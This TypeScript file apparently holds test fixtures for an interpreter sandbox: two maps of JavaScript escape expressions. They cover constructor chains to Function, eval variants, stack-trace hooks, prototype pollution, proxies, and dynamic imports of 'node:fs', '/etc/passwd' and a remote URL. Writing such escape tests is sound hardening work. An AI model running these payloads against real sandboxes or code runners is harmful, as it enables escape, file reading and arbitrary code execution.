/** Ways out of an interpreter that are known from others, by what they use; each gives what it got hold of. */
export const escapes: Readonly<Record<string, string>> = {
  // Constructors: of every intrinsic a way to the function that makes functions of text.
  this: "(function () { return this; })()",
  "this of a sloppy function": "Function('return this')()",
  "the constructor of a function": "(() => {}).constructor",
  "the constructor of the constructor of an object": "({}).constructor.constructor",
  "the constructor of a list": "[].constructor.constructor",
  "the constructor of a text": "''.constructor.constructor",
  "the constructor of a number": "(1).constructor.constructor",
  "the constructor of a truth value": "true.constructor.constructor",
  "the constructor of a symbol": "Symbol().constructor.constructor",
  "the constructor of a BigInt": "(1n).constructor.constructor",
  "the constructor of a regular expression": "/a/.constructor.constructor",
  "the constructor of a date": "new Date().constructor.constructor",
  "the constructor of an error": "new Error().constructor.constructor",
  "the constructor of a map": "new Map().constructor.constructor",
  "the constructor of a weak map": "new WeakMap().constructor.constructor",
  "the constructor of a promise": "Promise.resolve().constructor.constructor",
  "the constructor of a proxy's target": "new Proxy({}, {}).constructor.constructor",
  "the constructor of typed memory": "new Uint8Array(1).constructor.constructor",
  "the constructor of memory": "new ArrayBuffer(1).constructor.constructor",
  "the constructor of a view": "new DataView(new ArrayBuffer(1)).constructor.constructor",
  "async functions": "(async () => {}).constructor",
  generators: "(function* () {}).constructor",
  "async generators": "(async function* () {}).constructor",
  "the prototype of generators": "Object.getPrototypeOf(function* () {}).constructor",
  "the prototype of iterators":
    "Object.getPrototypeOf(Object.getPrototypeOf([][Symbol.iterator]())).constructor.constructor",
  "a class's constructor": "(class {}).constructor",
  "a getter's constructor": "Object.getOwnPropertyDescriptor(Map.prototype, 'size').get.constructor",
  "a bound function's constructor": "(() => {}).bind().constructor",
  "the input's constructor": "input.constructor.constructor",
  "the constructor behind a computed key": "input['con' + 'structor']['con' + 'structor']",
  "the constructor behind a unicode escape": "input.c\\u006fnstructor.constr\\u0075ctor",
  "the constructor by reflection": "Reflect.get(Reflect.getPrototypeOf(() => {}), 'constructor')",
  "construction by reflection": "Reflect.construct(Function, ['return globalThis'])()",
  "the constructor by __proto__": "(() => {}).__proto__.constructor",
  "the constructor by __lookupGetter__": "({}).__lookupGetter__('__proto__').constructor",
  // What the host lends.
  "a helper's constructor": "addDays.constructor",
  "a helper's caller":
    "(() => { try { return sha256.caller; } catch (error) { return error.constructor.constructor; } })()",
  "a helper's arguments":
    "(() => { try { return uuid.arguments; } catch (error) { return error.constructor.constructor; } })()",
  "the console's constructor": "console.log.constructor",
  "the console's prototype": "Object.getPrototypeOf(console).constructor.constructor",
  "a helper called with this": "sha256.call(globalThis, 'x').constructor.constructor",
  "a helper called with an object that changes":
    "(() => { let asked = 0; try { return sha256({ toString() { asked += 1; return asked > 1 ? 'x' : {}; } }); } catch (error) { return error.constructor.constructor; } })()",
  "a helper called with a proxy":
    "(() => { try { return map(new Proxy([], { get: (target, key) => (key === 'constructor' ? Function : target[key]) }), 'a').constructor.constructor; } catch (error) { return error.constructor.constructor; } })()",
  "a helper's error": "(() => { try { addDays('x', 1); } catch (error) { return error.constructor.constructor; } })()",
  "a helper's error by its cause":
    "(() => { try { base64Decode('*'); } catch (error) { return error.cause ?? error.constructor.constructor; } })()",
  "a date helper with __proto__":
    "(() => { try { return date('2026-01-01', '%Y', '__proto__'); } catch (error) { return error.constructor.constructor; } })()",
  "a hash that there is not":
    "(() => { try { return sha256('x', 'buffer'); } catch (error) { return error.constructor.constructor; } })()",
  "the host's name for files": "globalThis.host ?? globalThis.__host ?? {}",
  // Errors and stacks.
  "Error.prepareStackTrace":
    "(() => { let seen; Error.prepareStackTrace = (_, frames) => { seen = frames; return ''; }; void new Error().stack; return seen?.[0]?.getThis?.() ?? {}; })()",
  "Error.captureStackTrace":
    "(() => { const held = {}; Error.captureStackTrace?.(held); return held.stack?.constructor?.constructor ?? {}; })()",
  "a stack overflow's error":
    "(() => { const go = () => go(); try { go(); } catch (error) { return error.constructor.constructor; } })()",
  "the error of a host's overflow":
    "(() => { try { JSON.parse('['.repeat(1e4)); } catch (error) { return error.constructor.constructor; } })()",
  AggregateError: "new AggregateError([new Error()]).errors[0].constructor.constructor",
  "an error with a hostile name":
    "(() => { const error = new Error(); Object.defineProperty(error, 'name', { get() { return Function; } }); return error.name; })()",
  "an error thrown without prototype":
    "(() => { try { throw Object.create(null); } catch (error) { return error.constructor ?? {}; } })()",
  // Symbols, iteration, conversion.
  "Symbol.species":
    "(() => { class List extends Array { static get [Symbol.species]() { return Function; } } try { return new List(1).map(() => 'return process'); } catch (error) { return error.constructor.constructor; } })()",
  "Symbol.toPrimitive":
    "(() => { let hint; const value = { [Symbol.toPrimitive](given) { hint = given; return Function; } }; try { return `${value}`; } catch (error) { return error.constructor.constructor; } })()",
  "Symbol.hasInstance":
    "(() => { const held = []; class Kind { static [Symbol.hasInstance](value) { held.push(value); return true; } } void (1 instanceof Kind); return held; })()",
  "Symbol.unscopables": "(() => { Object.prototype[Symbol.unscopables] = { process: false }; return {}; })()",
  "a hostile iterator": "[...{ *[Symbol.iterator]() { yield (() => {}).constructor; } }][0]",
  "a tagged template": "((parts) => parts.raw.constructor.constructor)`x`",
  "a label": "(() => { out: for (;;) { break out; } return (() => {}).constructor; })()",
  // Proxies and reflection.
  "a proxy over globalThis": "new Proxy(globalThis, {})",
  "a proxy that hands out its handler":
    "new Proxy({}, { get: (target, key, receiver) => (key === 'any' ? receiver : target[key]) }).any.constructor.constructor",
  "a revoked proxy":
    "(() => { const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); try { return proxy.x; } catch (error) { return error.constructor.constructor; } })()",
  "Reflect.ownKeys of globalThis":
    "Object.fromEntries(Reflect.ownKeys(globalThis).filter((key) => typeof key === 'string').map((key) => [key, 1]))",
  "every prototype of globalThis": "Object.getPrototypeOf(globalThis) ?? {}",
  "descriptors of globalThis": "Object.getOwnPropertyDescriptors(globalThis)",
  // Evaluation of text.
  eval: "eval('globalThis')",
  "an indirect eval": "(0, eval)('this')",
  "new Function": "new Function('return globalThis')()",
  "a function by its parameters": "Function('a = globalThis', 'return a')()",
  "with, in sloppy code": "Function('with ({ a: 1 }) { return this; }')()",
  "arguments.callee": "Function('return arguments.callee.caller ?? this')()",
  "a closing brace in new Function":
    "(() => { try { return Function('/*', '*/){ return globalThis }, function(')(); } catch (error) { return error.constructor.constructor; } })()",
  "html comments": "Function('<!-- \\nreturn globalThis')()",
  "a setter on Object.prototype":
    "(() => { Object.defineProperty(Object.prototype, 'kind', { set(value) { this.escaped = Function; } }); return {}; })()",
  "a setter on Array.prototype":
    "(() => { Object.defineProperty(Array.prototype, 0, { set(value) {}, configurable: true }); return [].concat([Function])[0] ?? {}; })()",
  // Waiting and collecting.
  "Atomics.wait": "globalThis.Atomics ?? {}",
  "shared memory": "globalThis.SharedArrayBuffer ?? {}",
  WeakRef: "new WeakRef(input).deref().constructor.constructor",
  FinalizationRegistry: "new FinalizationRegistry(() => {}).constructor.constructor",
  "a job after the end": "(() => { Promise.resolve().then(() => { globalThis.late = 1; }); return {}; })()",
};

/** The same, but for code that awaits. */
export const laterEscapes: Readonly<Record<string, string>> = {
  "import of node:fs": "await import('node:fs')",
  "import of a file": "await import('file:///etc/passwd')",
  "import of an address": "await import('https://example.com/x.js')",
  "import of data": "await import('data:text/javascript,export default globalThis')",
  "import of the interpreter's own modules": "await import('std')",
  "import of its system module": "await import('os')",
  "import of Tandem's own files": "await import('./code/prelude/kit.ts')",
  "import of what the source is called": "await import('source')",
  "import of a hostile name": "await import({ toString: () => 'node:fs' })",
  "the constructor in a callback of then":
    "await Promise.resolve().then(function () { return (function () {}).constructor; })",
  "the resolver's constructor": "await new Promise((resolve) => resolve(resolve.constructor))",
  "a thenable": "await { then(resolve) { resolve(resolve.constructor.constructor); } }",
  "the rejection of import": "await import('x').catch((error) => error.constructor.constructor)",
  "an async generator's return": "(await (async function* () {})().return((() => {}).constructor)).value",
  "import.meta": "import.meta",
};
